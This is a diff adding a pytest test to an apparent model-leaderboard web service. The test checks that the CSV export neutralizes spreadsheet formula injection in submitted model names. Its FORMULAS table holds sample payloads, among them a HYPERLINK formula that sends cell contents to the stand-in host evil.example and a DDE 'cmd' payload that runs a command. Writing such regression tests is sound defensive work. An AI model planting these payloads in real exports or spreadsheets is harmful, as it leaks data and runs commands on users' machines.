@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 from collections.abc import Iterator
@@ -13,7 +14,7 @@ import pytest
 from fastapi.testclient import TestClient
 
 from service.pipeline.artifacts import load_fit
-from tests.service.conftest import ADMIN, assert_error, open_client, service_settings
+from tests.service.conftest import ADMIN, INGEST, assert_error, open_client, service_settings
 
 
 @pytest.fixture(scope="module")
@@ -75,3 +76,44 @@ def test_an_unknown_format_is_refused_naming_it(client: TestClient) -> None:
     response = client.get("/v1/leaderboard", params={"format": "xlsx"})
     assert response.status_code == 422
     assert "format" in response.text and "xlsx" in response.text
+
+
+#: Model names a spreadsheet would run (issue 31), and the cells the CSV holds for them.
+FORMULAS = {
+    '=HYPERLINK("http://evil.example/?"&A1,"click me")': (
+        '\'=HYPERLINK("http://evil.example/?"&A1,"click me")'
+    ),
+    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
+    "@SUM(1)": "'@SUM(1)",
+    "-2+3": "'-2+3",
+}
+
+
+def test_anonymous_csv_never_holds_a_formula(shared_fit: Path, tmp_path: Path) -> None:
+    settings = service_settings(
+        shared_fit, store_path=tmp_path / "s.sqlite", auto_register_models=True
+    )
+    with open_client(settings) as client:
+        known = client.get("/v1/leaderboard").json()["models"][0]["model"]
+        votes = [
+            {"model_a": name, "model_b": known, "winner": "model_a", "user_id": f"attacker{i}"}
+            for i, name in enumerate(FORMULAS)
+        ]
+        answer = client.post("/v1/battles", json={"battles": votes}, headers=INGEST)
+        assert answer.json()["accepted"] == len(FORMULAS), answer.text
+        response = client.get("/v1/leaderboard", params={"method": "elo", "format": "csv"})
+    assert response.status_code == 200, response.text
+    header, *rows = list(csv.reader(io.StringIO(response.text, newline="")))
+    cells = {row[header.index("model")] for row in rows}
+    assert set(FORMULAS.values()) <= cells
+    for row in rows:  # every cell a number, or text that no spreadsheet evaluates
+        for cell in row:
+            assert _is_number(cell) or cell.lstrip()[:1] not in ("=", "+", "-", "@"), row
+
+
+def _is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
